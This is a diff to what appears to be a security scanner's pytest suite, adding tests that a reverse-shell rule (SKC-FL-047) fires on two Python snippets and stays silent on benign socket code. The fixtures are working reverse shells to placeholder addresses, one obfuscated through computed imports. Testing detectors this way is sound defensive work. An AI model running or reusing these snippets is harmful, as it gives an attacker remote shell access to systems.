@@ -685,3 +685,35 @@ def test_a_file_the_script_wrote_itself_and_runs_is_not_fetched_code() -> None:
         "    fh.write('print(1)')\nrunpy.run_path(fh.name)\n"
     )
     assert not _rules(code) & {"SKC-FL-001", "SKC-FL-002"}
+
+
+SOCKET_ONTO_STDIO = [
+    # modules imported by computed names, the connection kept on the object, the shell
+    # chosen from the environment
+    "import os\nclass Channel:\n    def __init__(self):\n        net = __import__('socket')\n"
+    "        self.s = getattr(net, 'create_connection')(('198.51.100.7', 4444))\n"
+    "    def attach(self):\n        for fd in range(3):\n            os.dup2(self.s.fileno(), fd)\n"
+    "        __import__('pty').spawn([os.environ.get('SHELL', '/bin/sh'), '-i'])\n"
+    "c = Channel()\nc.attach()\n",
+    # the address in a variable, descriptors in a tuple, exec instead of pty
+    "import os, socket\nhost = '203.0.113.5'\nconn = socket.create_connection((host, 443))\n"
+    "for n in (0, 1, 2):\n    os.dup2(conn.fileno(), n)\nos.execv('/bin/bash', ['bash', '-i'])\n",
+]
+
+
+@pytest.mark.parametrize("code", SOCKET_ONTO_STDIO)
+def test_a_connection_duplicated_onto_stdio_with_a_shell_is_a_reverse_shell(code: str) -> None:
+    assert "SKC-FL-047" in _rules(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import socket, os, pty\ns = socket.create_connection(('localhost', 8000))\n"
+        "os.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')\n",
+        "import os, socket\ns = socket.create_connection(('203.0.113.5', 443))\n"
+        "os.dup2(os.open('/dev/null', os.O_RDWR), 0)\nos.execv('/usr/bin/python3', ['python3', 'app.py'])\n",
+    ],
+)
+def test_a_local_session_or_a_daemon_restart_is_not(code: str) -> None:
+    assert "SKC-FL-047" not in _rules(code)
